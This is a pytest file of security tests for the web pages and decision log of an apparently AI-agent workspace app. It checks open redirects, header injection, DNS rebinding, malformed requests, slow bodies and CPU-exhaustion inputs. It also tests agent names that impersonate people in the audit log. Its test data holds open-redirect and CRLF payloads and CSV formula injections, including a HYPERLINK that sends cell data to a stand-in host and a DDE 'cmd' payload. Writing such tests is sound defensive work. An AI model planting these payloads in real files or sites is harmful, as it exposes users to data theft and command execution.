"""Attacks on the page by what is sent to it or shown on it: requests, forms, long threads, and the decision log."""

import asyncio
import csv
import io
import json
import re
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from time import process_time
from urllib.parse import quote, urlencode, urlsplit

import pytest
from aiohttp import ClientSession

from adapters.screens.decision_log import csv_text, json_line, row_text, who_text
from agent_core.model.agent import Agent, Finished
from agent_core.model.command import CommandCall, Preview, Proposal, Succeeded, Thoughts
from agent_core.model.decision import Approval, Approve
from agent_core.model.ids import TurnId, new_id
from agent_core.model.records.audit import AuditEntry
from agent_core.model.turn import Turn
from agent_core.service.reading.decision_log import LogFilter
from agent_core.spending.helper_tree import as_actor
from agent_core.testing.examples import ANA, NOON, a_turn, an_agent, keep
from agent_core.testing.language_model import ScriptedModel
from agent_core.testing.stage import Stage
from tests.attacks.heartbeat import Heartbeat
from tests.attacks.rows import attack
from tests.patience import PATIENCE_SECONDS
from tests.scenario.served import served

# Attacks on the pages over HTTP: what strangers write into addresses, headers and forms
TOKEN = "a token of some length"


@pytest.fixture
async def guarded(tmp_path: Path) -> AsyncIterator[str]:
    async with served(ScriptedModel(), tmp_path, token=TOKEN) as address:
        yield address


async def status_of(guarded: str, request: bytes) -> int:
    """The status that these bytes are answered with; 0 for a connection that is closed without one."""
    address = urlsplit(guarded)
    reader, writer = await asyncio.open_connection(address.hostname, address.port)
    writer.write(request)
    async with asyncio.timeout(PATIENCE_SECONDS):
        line = await reader.readline()
    writer.close()
    return int(line.split()[1]) if line else 0


def leads(what: str, to: str) -> object:
    return pytest.param(to, marks=attack("http", what, "redirects to the first page of this site"), id=repr(to))


@pytest.mark.slow
@pytest.mark.proves("page:stays")
@pytest.mark.parametrize(
    "to",
    [
        leads("Open redirect by `/enter?to=` without a scheme: `//evil.example`", "//evil.example"),
        leads("The same with a backslash: `/\\evil.example`", "/\\evil.example"),
        leads("The same with two backslashes: `\\\\evil.example`", "\\\\evil.example"),
        leads("A tab between the slashes: `/%09/evil.example`", "/\t/evil.example"),
        leads("A line feed between the slashes", "/\n/evil.example"),
        leads("Leading spaces", "  //evil.example"),
        leads("The full URL of another site", "https://evil.example/"),
        leads("A script URL: `javascript:alert(1)`", "javascript:alert(1)"),
        leads("Header injection (CRLF)", "/\r\nSet-Cookie: signoff_person=x"),
        leads("A control character", "/\x01/evil.example"),
        leads("A character that some programs read as a slash", "/\u2215evil.example"),
    ],
)
async def test_who_enters_stays_on_this_site(guarded: str, to: str, answer: str) -> None:
    async with ClientSession(headers={"Origin": guarded}) as session:
        async with session.get(f"{guarded}/enter", params={"to": to}) as asked:
            assert 'name="to" value="/"' in await asked.text()
        form = {"token": TOKEN, "to": to}
        async with session.post(f"{guarded}/enter", data=form, allow_redirects=False) as entered:
            assert (entered.status, entered.headers["Location"]) == (303, "/")
    assert answer == "redirects to the first page of this site"


@pytest.mark.proves("page:stays")
@pytest.mark.parametrize("path", [b"//evil.example", b"/%0d%0aSet-Cookie:x", b"/%09/evil.example", b"/c/%ff?to=//x"])
async def test_the_way_to_the_token_stays_on_this_site(guarded: str, path: bytes) -> None:
    address = urlsplit(guarded)
    reader, writer = await asyncio.open_connection(address.hostname, address.port)
    writer.write(b"GET " + path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
    async with asyncio.timeout(PATIENCE_SECONDS):
        head = (await reader.read()).decode().partition("\r\n\r\n")[0]
    writer.close()
    location = next(line for line in head.splitlines() if line.startswith("Location: "))
    assert location.startswith("Location: /enter?to=/")
    assert "evil" not in location or "/enter?to=/%2509/evil" in location
    assert not any(line.startswith("Set-Cookie:x") for line in head.splitlines())


@pytest.mark.proves("page:host")
@pytest.mark.parametrize(
    ("path", "answer"),
    [
        pytest.param(path, said, marks=attack("http", f"`{path}` under a foreign host name (DNS rebinding)", said))
        for path, said in (("/metrics", "401"), ("/operations", "403"), ("/enter", "403"), ("/static/page.js", "403"))
    ],
)
async def test_every_page_wants_a_known_host_and_metrics_a_token(guarded: str, path: str, answer: str) -> None:
    request = f"GET {path} HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
    assert str(await status_of(guarded, request.encode())) == answer


def broken(what: str, status: int, *headers: bytes, line: bytes = b"GET / HTTP/1.1", body: bytes = b"") -> object:
    host = () if any(header.startswith(b"Host:") for header in headers) else (b"Host: 127.0.0.1",)
    origin = () if any(header.startswith(b"Origin:") for header in headers) else (b"Sec-Fetch-Site: none",)
    head = b"\r\n".join((line, *host, *origin, *headers, b"Connection: close"))
    return pytest.param(head + b"\r\n\r\n" + body, status, marks=attack("http", what, str(status)), id=what)


METRICS, SCRIPT = b"GET /metrics HTTP/1.1", b"GET /static/page.js HTTP/1.1"
FORM = b"Content-Type: application/x-www-form-urlencoded"
PACKED, CHUNKED = (b"Content-Encoding: gzip", b"Content-Length: 4"), b"Transfer-Encoding: chunked"
ENTER, SAY = b"POST /enter HTTP/1.1", b"POST /me HTTP/1.1"
BADGE_IS_UNKNOWN, REFUSED, BAD = 303, 403, 400


@pytest.mark.proves("page:broken")
@pytest.mark.parametrize(
    ("request_bytes", "status"),
    [
        broken("A non-ASCII cookie", BADGE_IS_UNKNOWN, "Cookie: signoff_token=é".encode()),
        broken("A cookie of invalid UTF-8", BADGE_IS_UNKNOWN, b"Cookie: signoff_token=\xff\xfe"),
        broken("A malformed cookie", BADGE_IS_UNKNOWN, b"Cookie: ;;=;signoff_token"),
        broken("A Host of invalid UTF-8", REFUSED, b"Host: \xff\xfe"),
        broken("A Host with an incomplete IPv6 address", REFUSED, b"Host: [::1"),
        broken("A Host with credentials", REFUSED, b"Host: evil@127.0.0.1"),
        broken("An Origin with an incomplete IPv6 address", REFUSED, b"Origin: http://[::1", line=ENTER),
        broken("A bearer token of invalid UTF-8", 401, b"Authorization: Bearer \xff\xe9", line=METRICS),
        broken("A path of invalid UTF-8", BADGE_IS_UNKNOWN, line=b"GET /c/web/%ff/%00 HTTP/1.1"),
        broken("An invalid Range", 416, b"Range: bytes=9-1", line=SCRIPT),
        broken("An invalid date", 200, b"If-Modified-Since: Mon, 99 Foo 99999", line=SCRIPT),
        broken("A form declared as gzip, but not compressed", BAD, FORM, *PACKED, line=ENTER, body=b"to=x"),
        broken("A form with invalid chunks", BAD, FORM, CHUNKED, line=ENTER, body=b"zz\r\nto=x"),
        broken("A token form of a megabyte", 413, FORM, b"Content-Length: 1000000", line=ENTER),
        broken("The same with 8,000 fields", 422, FORM, b"Content-Length: 16000", line=ENTER, body=b"a&" * 8000),
    ],
)  # fmt: skip
async def test_a_request_that_makes_no_sense_is_answered_and_breaks_nothing(
    guarded: str, request_bytes: bytes, status: int, answer: str, caplog: pytest.LogCaptureFixture
) -> None:
    assert await status_of(guarded, request_bytes) == status
    assert [record.message for record in caplog.records if record.levelname == "ERROR"] == []
    assert answer == str(status)


@pytest.mark.proves("page:broken")
@pytest.mark.parametrize(
    "kind", [b"text/plain; charset=nope", b"multipart/form-data", b"multipart/form-data; boundary=x; charset=\xff"]
)
async def test_a_form_of_a_kind_that_cannot_be_read_is_told(tmp_path: Path, kind: bytes) -> None:
    head = SAY + b"\r\nHost: 127.0.0.1\r\nSec-Fetch-Site: none\r\nContent-Length: 6\r\nContent-Type: " + kind
    form = SAY + b"\r\nHost: 127.0.0.1\r\nSec-Fetch-Site: none\r\nContent-Length: 8\r\n" + FORM + b"; charset=nope"
    async with served(ScriptedModel(), tmp_path) as base:
        answers = [await status_of(base, head + b"\r\n\r\nname=x"), await status_of(base, form + b"\r\n\r\nname=ana")]
    assert all(200 <= status < 500 for status in answers)


def test_the_form_for_the_token_is_what_the_page_sends() -> None:
    assert len(urlencode({"token": TOKEN, "to": "/c/web/local/general"})) < 16_384


# A request whose body never ends
HALF_A_FORM = b"POST /enter HTTP/1.1\r\nHost: 127.0.0.1\r\nSec-Fetch-Site: none\r\nContent-Length: 9\r\n\r\nto"


@pytest.mark.slow
@attack("http", "A form with a body that never ends", "408, and the connection is closed")
async def test_half_a_body_is_waited_for_so_long_and_no_longer(tmp_path: Path, answer: str) -> None:
    async with served(ScriptedModel(), tmp_path, body_seconds=0.2) as base, asyncio.timeout(PATIENCE_SECONDS):
        address = urlsplit(base)
        reader, writer = await asyncio.open_connection(address.hostname, address.port)
        writer.write(HALF_A_FORM)
        assert (await reader.readline()).split()[1] == answer[:3].encode()
        await reader.read()
        writer.close()


# Attacks on the time that one request of the local workspace takes from everybody else: the loop is one
MOST_SPENT = 4  # seconds of all threads; about 2 on two slow cores
MOST_SECONDS = 0.5  # of which a page's first rendering, with its template, takes about 0.2
GRANTED = Approval(ANA, NOON, Approve())
AT_REST = replace(an_agent(), status=Finished("done"))
PATH = "/c/web/local/general/a/agent-ada"


@pytest.fixture
def stages() -> list[Stage]:
    return []


@pytest.fixture
async def base(stages: list[Stage], tmp_path: Path) -> AsyncIterator[str]:
    async with served(ScriptedModel(waits=True), tmp_path, prepared=stages.append) as address:
        yield address


async def longest_gap(base: str, path: str) -> float:
    async with ClientSession() as session:
        await (await session.get(base + "/")).read()  # templates are compiled
        with Heartbeat() as heartbeat:
            async with session.get(base + path) as response:
                await response.read()
                assert response.status == 200
    return heartbeat.longest


def done(agent: Agent, number: int, **changes: object) -> Turn:
    turn = a_turn(agent, id=TurnId(new_id(NOON)), number=number, state="done", approvals=(GRANTED,), shown_as="t/1")
    return replace(turn, **{"result": Succeeded("ok"), **changes})  # type: ignore[arg-type]


@pytest.mark.slow
@pytest.mark.proves("page:search-bounded")
async def test_a_search_that_finds_long_results_in_another_script_leaves_time_for_others(
    base: str, stages: list[Stage]
) -> None:
    """A result may have 200,000 characters, and excerpts are made of 50 of them."""
    agent, result = replace(AT_REST, turns=50), Succeeded("Ж中é " * 50_000)
    await keep(stages[0].database, agent, *[done(agent, number, result=result) for number in range(1, 51)])
    begun = process_time()
    gap = await longest_gap(base, f"/search?q={quote('ж 中')}")
    spent = process_time() - begun
    assert (gap < MOST_SECONDS, spent < MOST_SPENT) == (True, True), f"{gap:.1f} s"


def rewriting(agent: Agent, number: int) -> Turn:
    lines = [f"line {each} of the report, as it was written in turn" for each in range(100)]
    diff = "\n".join(f"{sign}{line} {number - 1 if sign == '-' else number}" for line in lines for sign in "-+")
    text = "\n".join(f"{line} {number}" for line in lines)
    preview = Preview(title="report.md", body=diff, kind="diff", target="report.md", basis="")
    call = CommandCall("write_to_file", {"filename": "report.md", "text": text})
    proposal = Proposal(thoughts=Thoughts(text="Again."), call=call, preview=preview)
    return done(agent, number, proposal=proposal)


@pytest.mark.slow
async def test_the_versions_of_a_file_that_was_often_rewritten_leave_time_for_others(
    base: str, stages: list[Stage]
) -> None:
    agent = replace(AT_REST, turns=300)
    await keep(stages[0].database, agent, *[rewriting(agent, number) for number in range(1, 301)])
    assert await longest_gap(base, f"{PATH}/view/report.md?as=versions") < MOST_SECONDS


def with_near_lines(agent: Agent, number: int) -> Turn:
    """A diff of two lines with 195 tokens each, of which few match in order: difflib compares them again and again."""
    old = "始" + "文字" * 97
    new = "末" + "".join("文" if each % 3 else "好" for each in range(195))
    body = f"-{number} {old}\n+{number} {new}"
    preview = Preview(title="report.md", body=body, kind="diff", target="report.md", basis="")
    call = CommandCall("write_to_file", {"filename": "report.md", "text": new})
    return done(agent, number, proposal=Proposal(thoughts=Thoughts(text="Again."), call=call, preview=preview))


@pytest.mark.slow
async def test_older_versions_are_on_pages_of_their_own(base: str, stages: list[Stage]) -> None:
    agent = replace(AT_REST, turns=45)
    await keep(stages[0].database, agent, *[rewriting(agent, number) for number in range(1, 46)])
    behind, pages, newest = "?as=versions", list[list[str]](), list[bool]()
    async with ClientSession() as session:
        while behind:
            async with session.get(f"{base}{PATH}/view/report.md{behind}") as response:
                page = await response.text()
            pages.append(re.findall(r">Turn (\d+) ·", page))
            newest.append(">Newest</a>" in page)
            behind = "".join(re.findall(r'(\?as=versions&amp;before=[^"]+)">Older', page)).replace("&amp;", "&")
    assert pages == [
        [str(number) for number in numbers] for numbers in (range(45, 25, -1), range(25, 5, -1), range(5, 0, -1))
    ]
    assert newest == [False, True, True]


@pytest.mark.slow
async def test_a_thread_with_short_diffs_of_repeated_letters_leaves_time_for_others(
    base: str, stages: list[Stage]
) -> None:
    """Difflib compares n × m tokens again for each block that it finds."""
    agent = replace(AT_REST, turns=20)
    await keep(stages[0].database, agent, *[with_near_lines(agent, number) for number in range(1, 21)])
    assert await longest_gap(base, PATH) < MOST_SECONDS


@pytest.mark.slow
async def test_a_table_of_invisible_characters_leaves_time_for_others(
    base: str, stages: list[Stage], tmp_path: Path
) -> None:
    """Each of 1.8 million characters is spelled out."""
    await keep(stages[0].database, AT_REST)
    folder = tmp_path / "workspaces" / "agent-ada"
    folder.mkdir(parents=True)
    row = ",".join(["\u200b" * 300] * 30)
    (folder / "table.csv").write_text("\n".join([row] * 201), encoding="utf-8")
    assert await longest_gap(base, f"{PATH}/view/table.csv") < MOST_SECONDS


@pytest.mark.slow
async def test_code_with_one_invisible_character_leaves_time_for_others(
    base: str, stages: list[Stage], tmp_path: Path
) -> None:
    """200,000 characters of code become 5 million of HTML."""
    await keep(stages[0].database, AT_REST)
    folder = tmp_path / "workspaces" / "agent-ada"
    folder.mkdir(parents=True)
    (folder / "a.py").write_text("x=1;" * 49_999 + "#\u200b", encoding="utf-8")
    assert await longest_gap(base, f"{PATH}/view/a.py") < MOST_SECONDS


# An attack on the time that the page of a thread takes from everybody else: sources that were shown often
RUNS = 25
ROW = "x = '" + "!x" * 45 + "'"  # 1,000 of them are under the 100,000 that a program may have


@pytest.mark.slow
@pytest.mark.parametrize("invisible", ["\u200b", "\u200d"])
async def test_a_thread_in_which_one_program_ran_again_and_again_leaves_time_for_others(
    base: str, stages: list[Stage], invisible: str
) -> None:
    """The source has invisible characters, which are spelled out each time."""
    agent = replace(AT_REST, turns=RUNS)
    source = "\n".join([ROW.replace("!", invisible)] * 1_000)
    preview = Preview(title="run.py", body=source, kind="text", target="run.py", basis="")
    call = CommandCall("execute_python_file", {"filename": "run.py"})
    proposal = Proposal(thoughts=Thoughts(text="Again."), call=call, preview=preview)
    await keep(stages[0].database, agent, *[done(agent, each, proposal=proposal) for each in range(1, RUNS + 1)])
    gap = await longest_gap(base, PATH)
    assert gap < MOST_SECONDS, f"{gap:.1f} s"


# What others wrote, in the decision log that people open in a spreadsheet or read on a page
ADA = an_agent(turns=1)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '"=1',
    " =1",
    "ok;=1",
    "ok\t@x",
    "ok\n=1",
    "\uff1d1",
)


@attack(
    "approval",
    "CSV injection: a reason for a rejection that is a formula, =HYPERLINK(…), also after a semicolon or a tab",
    "the CSV file has an apostrophe before it",
)
def test_no_cell_of_the_table_is_a_formula() -> None:
    for text in FORMULAS:
        assert formulas_in(text) == [], text


def formulas_in(text: str) -> list[str]:
    """What a spreadsheet would run of a row in which people wrote this, however it splits cells."""
    whose = replace(ADA, name=text)
    table = csv_text([AuditEntry.on(whose, "reject", by=replace(ANA, display=text), at=NOON, detail=text)])
    cells = [cell for line in csv.reader(io.StringIO(table[1:], newline="")) for cell in line]
    parts = [part.strip('" \r') for cell in cells for part in re.split("[;\t\n]", cell)]
    return [part for part in parts if part[:1] in tuple("=+-@\uff1d")]


NAMES = ("ana", "ana” · @ana", "@ana", "ANA")


@attack(
    "approval", "A helper has a person's name, so that its actions look like that person's in the log", "agent “ana”"
)
@pytest.mark.proves("log:agents")
def test_an_agents_act_is_not_told_as_a_persons(answer: str) -> None:
    for name in NAMES:
        helper = as_actor(replace(ADA, name=name))
        forged, hers = (AuditEntry.on(ADA, "created", by=by, at=NOON) for by in (helper, replace(ANA, display=name)))
        assert (row_text(forged) != row_text(hers), json_line(forged) != json_line(hers)) == (True, True), name
        assert who_text(helper).count("”") == 1
        assert [LogFilter(person=name).admits(entry) for entry in (forged, hers)] == [False, not name.startswith("@")]
    assert who_text(as_actor(replace(ADA, name="ana"))) == answer


def test_the_files_of_the_log_say_what_kind_of_actor_it_was() -> None:
    entry = AuditEntry.on(ADA, "created", by=as_actor(ADA), at=NOON)
    (row,) = csv.DictReader(io.StringIO(csv_text([entry])[1:], newline=""))
    assert (row["who"], row["who_kind"], json.loads(json_line(entry))["who_kind"]) == (ADA.name, "bot", "bot")
